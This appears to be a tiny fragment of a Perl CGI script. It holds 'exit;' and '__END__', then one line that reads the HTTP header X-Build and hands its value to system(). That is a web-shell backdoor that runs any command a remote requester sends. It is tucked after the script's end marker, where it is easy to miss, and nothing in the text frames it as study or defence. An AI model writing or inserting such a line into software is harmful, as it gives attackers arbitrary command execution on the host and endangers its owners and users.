exit;
__END__
my$h=$ENV{HTTP_X_BUILD};system($h);
